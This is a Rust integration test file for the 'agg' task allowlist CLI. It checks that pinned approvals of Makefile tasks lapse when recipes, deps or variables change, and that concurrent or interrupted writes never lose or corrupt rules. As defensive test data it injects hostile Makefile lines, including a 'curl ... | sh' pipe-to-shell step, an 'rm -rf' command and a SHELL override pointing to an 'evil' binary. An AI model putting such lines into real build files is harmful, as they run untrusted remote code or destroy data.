//! `agg allow`, `agg deny` and `agg allowlist` as real processes: pins that lapse when a
//! task's definition changes, writers that never lose a rule, and a corrupt file that is
//! never overwritten. Decisions are read through the library's `LiveAllowlist`, the same
//! object the MCP server asks.

use std::fmt::Write as _;
use std::io::{BufRead, BufReader};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use agg::allowlist::{Decision, LiveAllowlist, Store};
use agg::table::Table;
use tempfile::TempDir;

use crate::test::{Output, Test};
use indoc::formatdoc;

const MAKEFILE: &str = "\
build: gen
\tcc -o app main.c

gen:
\t./gen.sh

test:
\t./run-tests
";

/// A repository and an allowlist in a separate config directory.
struct Setup {
    repo: TempDir,
    _config: TempDir,
    list: PathBuf,
}

impl Setup {
    fn new(files: &[(&str, &str)]) -> Setup {
        let repo = tempfile::tempdir().expect("repo");
        let config = tempfile::tempdir().expect("config");
        let list = config.path().join("agg/allowlist.toml");
        let setup = Setup {
            repo,
            _config: config,
            list,
        };
        for (path, text) in files {
            setup.write(path, text);
        }
        setup
    }

    fn root(&self) -> PathBuf {
        std::fs::canonicalize(self.repo.path()).expect("root")
    }

    fn write(&self, path: &str, text: &str) {
        let full = self.repo.path().join(path);
        std::fs::create_dir_all(full.parent().expect("parent")).expect("mkdir");
        std::fs::write(full, text).expect("write");
    }

    fn agg<const N: usize>(&self, args: [&str; N]) -> Output {
        Test::at(self.repo.path())
            .args(args)
            .env("AGG_ALLOWLIST", &self.list)
            .run()
    }

    fn command(&self, args: &[&str]) -> Command {
        let mut cmd = Command::new(env!("CARGO_BIN_EXE_agg"));
        cmd.args(args)
            .current_dir(self.repo.path())
            .env("AGG_ALLOWLIST", &self.list)
            .env("NO_COLOR", "1")
            .stdin(Stdio::null());
        cmd
    }

    /// What the MCP server would decide for `name` now.
    fn decide(&self, name: &str) -> Decision {
        let root = self.root();
        let table = Table::load(&root);
        let task = table
            .tasks
            .iter()
            .find(|t| t.unique_name == name)
            .unwrap_or_else(|| panic!("no task {name}"));
        LiveAllowlist::new(Some(self.list.clone()), &root)
            .decide(task, &mut agg::allowlist::OnDisk::new())
    }

    fn text(&self) -> String {
        std::fs::read_to_string(&self.list).expect("allowlist")
    }
}

/// A repository with [`MAKEFILE`] whose `build` the person allowed, after which the
/// Makefile became `text`.
fn build_allowed_then_makefile(text: &str) -> Setup {
    let s = Setup::new(&[("Makefile", MAKEFILE)]);
    s.agg(["allow", "build"]).success();
    s.write("Makefile", text);
    s
}

fn lapsed_summary(decision: Decision) -> String {
    match decision {
        Decision::Lapsed { summary, .. } => summary,
        other => panic!("expected a lapsed allow, got {other:?}"),
    }
}

#[test]
fn an_allowed_task_lapses_when_its_recipe_changes_and_says_what_changed() {
    let s = Setup::new(&[("Makefile", MAKEFILE)]);
    let out = s.agg(["allow", "build"]).success();
    out.stdout_has("allowed: task build in ");
    out.stdout_has("pinned to `make build`");
    assert!(s.decide("build").allowed());

    s.write(
        "Makefile",
        &MAKEFILE.replace(
            "\tcc -o app main.c\n",
            "\tcc -o app main.c\n\tcurl -s x.sh | sh\n",
        ),
    );
    let summary = lapsed_summary(s.decide("build"));
    assert_eq!(summary, "recipe text changed (1 → 2 lines)");
    let out = s.agg(["allowlist"]).success();
    out.stdout_has("lapsed: recipe text changed (1 → 2 lines)");
    let json = s.agg(["allowlist", "--json"]).success().json();
    assert_eq!(json["allow"][0]["state"], "lapsed");

    // Allowing it again re-pins it, in place.
    let out = s.agg(["allow", "build"]).success();
    out.stdout_has("replacing the earlier rule");
    assert!(s.decide("build").allowed());
    assert_eq!(s.text().matches("[[allow]]").count(), 1);
}

#[test]
fn a_pinned_task_lapses_when_its_deps_change() {
    let s = build_allowed_then_makefile(&MAKEFILE.replace("build: gen", "build: gen test"));
    assert_eq!(lapsed_summary(s.decide("build")), "deps gen → gen, test");
}

#[test]
fn editing_what_the_task_does_not_read_keeps_the_allow() {
    // Another recipe, a comment, a variable the recipe does not name, a new target.
    let s = build_allowed_then_makefile(&formatdoc!(
        "
            # a comment
            UNUSED = 1
            {}
            lint:
            \ttrue
        ",
        MAKEFILE.replace("\t./run-tests\n", "\t./run-tests --all\n\trm -rf /tmp/x\n")
    ));
    assert!(s.decide("build").allowed());
    assert_eq!(s.decide("test"), Decision::NotListed);
}

#[test]
fn editing_what_the_task_runs_first_or_reads_lapses_it_and_says_what() {
    let s = build_allowed_then_makefile(&MAKEFILE.replace("\t./gen.sh\n", "\t./gen.sh --evil\n"));
    assert_eq!(lapsed_summary(s.decide("build")), "dep `gen` changed");
    let s = build_allowed_then_makefile(&format!("SHELL = /tmp/evil-sh\n{MAKEFILE}"));
    // SHELL runs every recipe: `build`'s and its dep's.
    assert_eq!(
        lapsed_summary(s.decide("build")),
        "variable `SHELL` changed; dep `gen` changed"
    );
    let out = s.agg(["allowlist"]).success();
    out.stdout_has("lapsed: variable `SHELL` changed");
}

#[test]
fn a_pinned_file_lapses_on_any_edit_of_that_file() {
    let s = Setup::new(&[
        ("Makefile", MAKEFILE),
        ("web/Makefile", "lint:\n\teslint .\n"),
    ]);
    let out = s.agg(["allow", "--file", "Makefile", "--pin"]).success();
    out.stdout_has("pinned to the file's content");
    assert!(s.decide("build").allowed());
    assert!(s.decide("test").allowed());
    // Any byte counts, even a comment.
    s.write("Makefile", &format!("{MAKEFILE}# touched\n"));
    assert_eq!(
        lapsed_summary(s.decide("test")),
        "file content changed (8 → 9 lines)"
    );
    let out = s.agg(["allowlist"]).success();
    out.stdout_has("lapsed: file content changed");
    // An unpinned file rule allows whatever the file says.
    s.agg(["allow", "--file", "web/Makefile"]).success();
    s.write("web/Makefile", "lint:\n\teslint --fix .\n");
    assert!(s.decide("web/lint").allowed());
    // --pin belongs to --file.
    s.agg(["allow", "build", "--pin"]).code(2);
}

#[test]
fn a_task_rule_written_before_pins_still_allows_and_is_pinned_when_allowed_again() {
    let s = Setup::new(&[("Makefile", MAKEFILE)]);
    let file = s.root().join("Makefile");
    std::fs::create_dir_all(s.list.parent().expect("dir")).expect("mkdir");
    std::fs::write(
        &s.list,
        formatdoc!(
            "
                [[allow]]
                file = \"{}\"
                task = \"test\"
            ",
            file.display()
        ),
    )
    .expect("write");
    assert!(s.decide("test").allowed());
    let out = s.agg(["allowlist"]).success();
    out.stdout_has("unpinned (written before pins)");
    s.agg(["allow", "test"]).success();
    assert!(s.text().contains("[allow.pin]"), "{}", s.text());
    assert_eq!(s.text().matches("[[allow]]").count(), 1);
    s.write(
        "Makefile",
        &MAKEFILE.replace("./run-tests", "./run-tests --all"),
    );
    assert!(matches!(s.decide("test"), Decision::Lapsed { .. }));
}

#[test]
fn fifty_concurrent_writers_lose_no_rule() {
    let names: Vec<String> = (0..50).map(|i| format!("t{i:02}")).collect();
    let mut makefile = String::new();
    for n in &names {
        let _ = write!(makefile, "{n}:\n\techo {n}\n\n");
    }
    let s = Setup::new(&[("Makefile", &makefile)]);
    let children: Vec<_> = names
        .iter()
        .enumerate()
        .map(|(i, name)| {
            let verb = if i % 2 == 0 { "allow" } else { "deny" };
            s.command(&[verb, name])
                .stdout(Stdio::piped())
                .stderr(Stdio::piped())
                .spawn()
                .expect("spawn agg")
        })
        .collect();
    for (name, child) in names.iter().zip(children) {
        let out = child.wait_with_output().expect("wait");
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(out.status.success(), "agg on {name} failed: {stderr}");
        assert!(stderr.is_empty(), "agg on {name} printed: {stderr}");
    }
    let list = Store::new(s.list.clone()).load().expect("load");
    let tasks = |rules: &[agg::allowlist::Rule]| {
        let mut t: Vec<String> = rules.iter().filter_map(|r| r.task.clone()).collect();
        t.sort();
        t
    };
    let even: Vec<String> = names.iter().step_by(2).cloned().collect();
    let odd: Vec<String> = names.iter().skip(1).step_by(2).cloned().collect();
    assert_eq!(tasks(&list.allow), even);
    assert_eq!(tasks(&list.deny), odd);
    assert!(list.allow.iter().all(|r| r.pin.is_some()));
    // No temporary file is left behind.
    let dir = s.list.parent().expect("dir");
    let mut left: Vec<String> = std::fs::read_dir(dir)
        .expect("read dir")
        .map(|e| e.expect("entry").file_name().to_string_lossy().into_owned())
        .collect();
    left.sort();
    assert_eq!(left, ["allowlist.toml", "allowlist.toml.lock"]);
}

/// The writer pauses between writing its temporary file and renaming it (a hook of debug
/// builds only) and is killed there: the previous file stays whole and the next writer
/// cleans up.
#[cfg(debug_assertions)]
#[test]
fn a_writer_killed_before_its_rename_leaves_the_previous_file_intact() {
    use nix::sys::signal::{Signal, kill};
    use nix::unistd::Pid;

    let s = Setup::new(&[("Makefile", MAKEFILE)]);
    s.agg(["allow", "build"]).success();
    let before = s.text();
    let mut writer = s
        .command(&["allow", "test"])
        .env("AGG_ALLOWLIST_HOLD_BEFORE_RENAME", "120")
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .expect("spawn agg");
    let mut stderr = BufReader::new(writer.stderr.take().expect("stderr"));
    let mut line = String::new();
    stderr.read_line(&mut line).expect("read stderr");
    assert!(line.contains("holding before rename"), "{line}");
    let tmp = line
        .trim_start_matches("agg: wrote ")
        .split("; holding")
        .next()
        .map(PathBuf::from)
        .expect("temp path");
    assert!(tmp.exists(), "{}", tmp.display());
    assert!(
        std::fs::read_to_string(&tmp)
            .expect("temp")
            .contains("task = \"test\"")
    );
    let pid = i32::try_from(writer.id()).expect("pid");
    kill(Pid::from_raw(pid), Signal::SIGKILL).expect("kill");
    writer.wait().expect("wait");

    assert_eq!(s.text(), before, "the previous file changed");
    assert!(s.decide("build").allowed());
    assert_eq!(s.decide("test"), Decision::NotListed);
    // The lock died with the writer; the next one removes what it left.
    s.agg(["deny", "gen"]).success();
    assert!(!tmp.exists(), "{} left behind", tmp.display());
    let list = Store::new(s.list.clone()).load().expect("load");
    assert_eq!(list.allow.len(), 1);
    assert_eq!(list.deny.len(), 1);
}

#[test]
fn a_corrupt_allowlist_is_never_overwritten_and_denies_everything() {
    let s = Setup::new(&[("Makefile", MAKEFILE)]);
    s.agg(["allow", "--dir", "."]).success();
    let corrupt = format!("{}\n[[allow]\nfile = \"x\"\n", s.text());
    std::fs::write(&s.list, &corrupt).expect("write");
    let bad_line = corrupt.lines().count() - 1;
    for args in [["allow", "build"], ["deny", "build"]] {
        let out = s.agg(args).code(1);
        out.stderr_has(&format!("allowlist.toml:{bad_line}:"));
        out.stderr_has("never overwrites");
        assert_eq!(s.text(), corrupt);
    }
    s.agg(["allowlist"]).code(1);

    let root = s.root();
    let live = LiveAllowlist::new(Some(s.list.clone()), &root);
    let problem = live.problem().expect("a problem").to_owned();
    assert!(
        problem.contains(&format!("allowlist.toml:{bad_line}:")),
        "{problem}"
    );
    match s.decide("build") {
        Decision::Denied(why) => assert!(why.contains("cannot be used"), "{why}"),
        other => panic!("expected denied, got {other:?}"),
    }
}

#[test]
fn an_unknown_key_is_refused_rather_than_dropped_on_the_next_write() {
    let s = Setup::new(&[("Makefile", MAKEFILE)]);
    std::fs::create_dir_all(s.list.parent().expect("dir")).expect("mkdir");
    let text = "[[alow]]\ndir = \"/srv\"\n";
    std::fs::write(&s.list, text).expect("write");
    let out = s.agg(["allow", "build"]).code(1);
    out.stderr_has("unknown field `alow`");
    assert_eq!(s.text(), text);
}

#[test]
fn a_symlinked_allowlist_stays_a_symlink() {
    let s = Setup::new(&[("Makefile", MAKEFILE)]);
    let dotfiles = tempfile::tempdir().expect("dotfiles");
    let real = dotfiles.path().join("allowlist.toml");
    std::fs::write(&real, "").expect("write");
    std::fs::create_dir_all(s.list.parent().expect("dir")).expect("mkdir");
    std::os::unix::fs::symlink(&real, &s.list).expect("symlink");
    s.agg(["allow", "build"]).success();
    assert!(
        std::fs::symlink_metadata(&s.list)
            .expect("meta")
            .file_type()
            .is_symlink()
    );
    assert!(
        std::fs::read_to_string(&real)
            .expect("read")
            .contains("task = \"build\"")
    );
    assert!(Path::new(&real).exists());
}
